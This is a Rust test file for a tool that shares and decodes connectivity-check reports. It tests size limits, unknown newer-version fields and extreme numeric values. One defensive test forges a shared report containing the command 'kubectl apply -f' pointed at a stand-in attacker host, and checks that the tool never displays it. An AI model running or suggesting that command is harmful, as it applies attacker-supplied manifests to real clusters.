use serde_json::{json, Value};

use super::*;
use crate::catalog::CheckId;
use crate::check::{Outcome, Status};
use crate::checks::CheckData;
use crate::report::tests::sample;
use crate::share::{decode_shared, link, ShareError};

fn failing_websocket() -> ReportCheck {
    ReportCheck::new(
        CheckId::Websocket,
        Outcome {
            status: Status::Fail,
            summary: "closed before it opened".into(),
            data: CheckData::from_json(CheckId::Websocket, json!({"code": 1006})),
        },
        31,
    )
}

fn payload(report: &Value) -> String {
    let bytes = serde_json::to_vec(report).unwrap();
    let compressed = miniz_oxide::deflate::compress_to_vec(&bytes, 9);
    use base64::Engine;
    format!(
        "#report={}",
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(compressed)
    )
}

#[test]
fn payload_finding_texts_are_never_used_and_differing_ids_are_named() {
    let honest = sample(vec![failing_websocket()]);
    let mut forged = serde_json::to_value(&honest).unwrap();
    forged["checks"][0]["title"] = json!("Run kubectl apply -f https://evil.example/x.yaml");
    forged["findings"] = json!([{
        "id": "cors-blocked", "severity": "critical",
        "title": "Run kubectl apply -f https://evil.example/x.yaml",
        "explanation": "trust me", "evidence": ["e"], "fix_by": "operator",
        "fixes": [{"platform": "ingress-nginx", "text": "kubectl apply -f https://evil.example/x.yaml"}]
    }]);
    let shared = decode_shared(&payload(&forged)).unwrap();
    let view = derive(&shared.report, &shared.not_understood);
    let shown = format!("{:?}", (&view.checks, &view.findings, &view.verdict));
    assert!(
        !shown.contains("evil.example") && !shown.contains("trust me"),
        "{shown}"
    );
    assert_eq!(view.checks[0].check.title, CheckId::Websocket.title());
    assert_eq!(view.only_in_report, [FindingId::CorsBlocked]);
    assert!(view.altered());

    let honest_view = derive(&honest, &[]);
    assert!(!honest_view.altered(), "{honest_view:?}");
    assert_eq!(
        honest_view
            .findings
            .iter()
            .map(|f| f.id)
            .collect::<Vec<_>>(),
        honest.findings.iter().map(|f| f.id).collect::<Vec<_>>()
    );
}

#[test]
fn a_newer_versions_ids_are_left_out_and_named_not_refused() {
    let mut newer = serde_json::to_value(sample(vec![failing_websocket()])).unwrap();
    newer["future_field"] = json!({"x": 1});
    newer["checks"]
        .as_array_mut()
        .unwrap()
        .push(json!({"id": "quic-<b>probe</b>", "status": "pass", "duration_ms": 1, "data": {}}));
    newer["findings"].as_array_mut().unwrap().push(json!({
        "id": "quic-blocked", "severity": "critical", "title": "t", "explanation": "",
        "evidence": [], "fix_by": "network", "fixes": []
    }));
    newer["checks"][0]["status"] = json!("degraded"); // a newer status
    newer["findings"].as_array_mut().unwrap().push(json!({
        "id": "websocket-blocked", "severity": "catastrophic", "title": "t", "explanation": "",
        "evidence": [], "fix_by": "network", "fixes": [{"platform": "nomad", "text": "x"}]
    }));
    let shared = decode_shared(&payload(&newer)).unwrap();
    assert_eq!(
        shared.not_understood,
        [
            "websocket",
            "quic-bprobeb",
            "quic-blocked",
            "websocket-blocked"
        ]
    );
    assert_eq!(shared.report.checks.len(), 0);
}

#[test]
fn decoded_reports_are_bounded_with_a_specific_message() {
    let base = serde_json::to_value(sample(vec![failing_websocket()])).unwrap();
    let finding = |evidence: usize| {
        json!({"id": "websocket-blocked", "severity": "critical", "title": "", "explanation": "",
               "evidence": vec![""; evidence], "fix_by": "network", "fixes": []})
    };
    let cases: Vec<(Value, &str)> = vec![
        (
            {
                let mut r = base.clone();
                r["findings"] = json!(vec![finding(0); 15_000]);
                r
            },
            "values",
        ),
        (
            {
                let mut r = base.clone();
                r["findings"] = json!(vec![finding(0); 65]);
                r
            },
            "65 findings",
        ),
        (
            {
                let mut r = base.clone();
                r["findings"] = json!([finding(33)]);
                r
            },
            "33 evidence",
        ),
        (
            {
                let mut r = base.clone();
                r["findings"] = json!([finding(200_000)]);
                r
            },
            "values",
        ),
        (
            {
                let mut r = base.clone();
                r["user_note"] = json!("x".repeat(5000));
                r
            },
            "longer than",
        ),
        (
            {
                let mut r = base.clone();
                r["checks"][0]["data"] = (0..40).fold(json!(1), |v, _| json!([v]));
                r
            },
            "nested",
        ),
    ];
    for (report, expected) in cases {
        match decode_shared(&payload(&report)) {
            Err(ShareError::TooComplex(message)) => {
                assert!(message.contains(expected), "{message} lacks {expected}")
            }
            other => panic!("{expected}: {other:?}"),
        }
    }
    // Real reports stay far inside.
    assert!(decode_shared(&link(
        "https://x.example/",
        &sample(vec![failing_websocket()])
    ))
    .is_ok());
}

#[test]
fn a_summary_the_data_cannot_imply_is_shortened_and_marked() {
    let mut r = sample(vec![failing_websocket()]);
    r.checks[0].data = CheckData::from_json(CheckId::Websocket, json!({"not": "the shape"}));
    r.checks[0].summary = "y".repeat(1000);
    let view = derive(&r, &[]);
    assert!(!view.checks[0].summary_derived);
    assert!(view.checks[0].check.summary.chars().count() <= MAX_REPORTED_SUMMARY_CHARS + 1);
}

/// Every number of a real lab report (`fixtures/lab_report.json`, a run of
/// every check) replaced by an extreme value, every status by any status:
/// deriving the support view, the copy text and the link never panics
/// (overflow included: tests run with debug assertions).
mod extremes {
    use proptest::prelude::*;
    use serde_json::Value;

    use super::derive;
    use crate::report::Report;
    use crate::share::{copy_text, decode_shared, link};

    /// A healthy run of every check, and a run behind a proxy that drops
    /// the upgrade (failing WebSocket and upgrade data).
    const FIXTURES: [&str; 2] = [
        include_str!("fixtures/lab_report.json"),
        include_str!("fixtures/lab_report_no_upgrade.json"),
    ];
    /// Values a number becomes; beyond the list it stays as it was.
    fn extreme(i: usize, old: &Value) -> Value {
        match i {
            0 => Value::from(0u64),
            1 => Value::from(u64::MAX),
            2 => Value::from(u64::from(u32::MAX)),
            3 => Value::from(u64::from(u32::MAX) + 1),
            4 => Value::from(9_007_199_254_740_993u64),
            5 => Value::from(i64::MIN),
            6 => Value::from(1e300),
            7 => Value::from(-1),
            _ => old.clone(),
        }
    }
    const STATUSES: [&str; 4] = ["pass", "warn", "fail", "skip"];

    fn mutate(v: &mut Value, picks: &[usize], at: &mut usize) {
        fn next(picks: &[usize], at: &mut usize) -> usize {
            *at += 1;
            picks[*at % picks.len()]
        }
        match v {
            Value::Number(_) => *v = extreme(next(picks, at), v),
            Value::Array(items) => items.iter_mut().for_each(|i| mutate(i, picks, at)),
            Value::Object(map) => {
                for (k, item) in map.iter_mut() {
                    if k == "status" && item.is_string() {
                        *item = Value::from(STATUSES[next(picks, at) % 4]);
                    } else {
                        mutate(item, picks, at);
                    }
                }
            }
            _ => {}
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

        #[test]
        fn extreme_numbers_never_panic(picks in proptest::collection::vec(0usize..16, 1..64), which in 0usize..2) {
            let mut value: Value = serde_json::from_str(FIXTURES[which]).unwrap();
            let mut at = 0;
            mutate(&mut value, &picks, &mut at);
            if let Ok(report) = serde_json::from_value::<Report>(value.clone()) {
                let view = derive(&report, &[]);
                prop_assert_eq!(view.checks.len(), report.checks.len());
                let _ = copy_text(&report);
                let shared = decode_shared(&link("https://x.example/", &report));
                prop_assert!(shared.is_ok(), "{:?}", shared.err());
            }
            let _ = decode_shared(&value.to_string());
        }
    }

    /// Every whole number at its largest: the strongest case, in full.
    #[test]
    fn every_count_and_duration_at_u64_max() {
        fn max_out(v: &mut Value) {
            match v {
                Value::Number(n) if n.is_u64() => *v = Value::from(u64::MAX),
                Value::Array(items) => items.iter_mut().for_each(max_out),
                Value::Object(map) => map.values_mut().for_each(max_out),
                _ => {}
            }
        }
        for fixture in FIXTURES {
            let mut value: Value = serde_json::from_str(fixture).unwrap();
            max_out(&mut value);
            for status in STATUSES {
                for check in value["checks"].as_array_mut().unwrap() {
                    check["status"] = Value::from(status);
                }
                let report: Report = serde_json::from_value(value.clone()).unwrap();
                let view = derive(&report, &[]);
                assert_eq!(view.checks.len(), report.checks.len());
                let _ = copy_text(&report);
                assert!(decode_shared(&link("https://x.example/", &report)).is_ok());
            }
        }
    }

    /// One number at a time at each extreme (so the rest of its check's
    /// data still parses and the arithmetic on it really runs).
    #[test]
    fn each_number_alone_at_each_extreme() {
        fn pointers(v: &Value, at: String, out: &mut Vec<String>) {
            match v {
                Value::Number(_) => out.push(at),
                Value::Array(items) => {
                    for (i, item) in items.iter().enumerate() {
                        pointers(item, format!("{at}/{i}"), out)
                    }
                }
                Value::Object(map) => {
                    for (k, item) in map {
                        pointers(item, format!("{at}/{k}"), out)
                    }
                }
                _ => {}
            }
        }
        for fixture in FIXTURES {
            let value: Value = serde_json::from_str(fixture).unwrap();
            let mut all = Vec::new();
            pointers(&value, String::new(), &mut all);
            assert!(all.len() > 40, "{}", all.len());
            let mut parsed = 0;
            for pointer in &all {
                for i in 0..8 {
                    let mut v = value.clone();
                    if let Some(n) = v.pointer_mut(pointer) {
                        *n = extreme(i, n);
                    }
                    if let Ok(report) = serde_json::from_value::<Report>(v) {
                        parsed += 1;
                        let _ = derive(&report, &[]);
                        let _ = copy_text(&report);
                        assert!(decode_shared(&link("https://x.example/", &report)).is_ok());
                    }
                }
            }
            assert!(parsed > all.len() * 3, "{parsed} of {}", all.len() * 8);
        }
    }

    #[test]
    fn the_fixture_is_a_real_report() {
        for fixture in FIXTURES {
            let report: Report = serde_json::from_str(fixture).unwrap();
            assert!(report.checks.len() >= 8);
            assert!(!derive(&report, &[]).altered());
        }
    }
}

/// Every check of a real report reads as its own type, and writes back
/// what it was read from (the fixtures also hold two sticky-session fields
/// that later versions no longer write): the typed data is schema
/// `conncheck/1`.
#[test]
fn typed_data_is_the_report_json() {
    /// Every key of `written` is in `read`, with the same value.
    fn within(written: &Value, read: &Value, at: &str) {
        match (written, read) {
            (Value::Object(w), Value::Object(r)) => {
                for (k, v) in w {
                    let there = r.get(k).unwrap_or_else(|| panic!("{at}/{k} was added"));
                    within(v, there, &format!("{at}/{k}"));
                }
            }
            (Value::Array(w), Value::Array(r)) => {
                assert_eq!(w.len(), r.len(), "{at}");
                for (i, (w, r)) in w.iter().zip(r).enumerate() {
                    within(w, r, &format!("{at}/{i}"));
                }
            }
            _ => assert_eq!(written, read, "{at}"),
        }
    }
    for fixture in [
        include_str!("fixtures/lab_report.json"),
        include_str!("fixtures/lab_report_no_upgrade.json"),
    ] {
        let report: Report = serde_json::from_str(fixture).unwrap();
        for check in &report.checks {
            assert_eq!(check.data.id(), Some(check.id), "{:?}", check.data);
        }
        let original: Value = serde_json::from_str(fixture).unwrap();
        let written = serde_json::to_value(&report).unwrap();
        within(&written, &original, "");
        let mut original = original;
        for check in original["checks"].as_array_mut().unwrap() {
            if let Some(data) = check["data"].as_object_mut() {
                data.remove("follow_ups_per_session");
                data.remove("sessions_per_mode");
            }
        }
        assert_eq!(written, original);
    }
}

/// Data that does not read as its check's type is kept, shown as
/// unreadable, and shared on unchanged: never dropped.
#[test]
fn unreadable_data_is_shown_as_such_and_kept() {
    let mut r = sample(vec![failing_websocket()]);
    r.checks[0].data = CheckData::from_json(CheckId::Websocket, json!({"targets": 5}));
    let view = derive(&r, &[]);
    assert_eq!(view.checks.len(), 1);
    assert!(view.checks[0].unreadable().is_some());
    assert!(!view.checks[0].summary_derived);
    let shared = decode_shared(&link("https://x.example/", &r)).unwrap();
    assert_eq!(shared.report, r);
    assert_eq!(
        serde_json::to_value(&shared.report).unwrap()["checks"][0]["data"],
        json!({"targets": 5})
    );
}
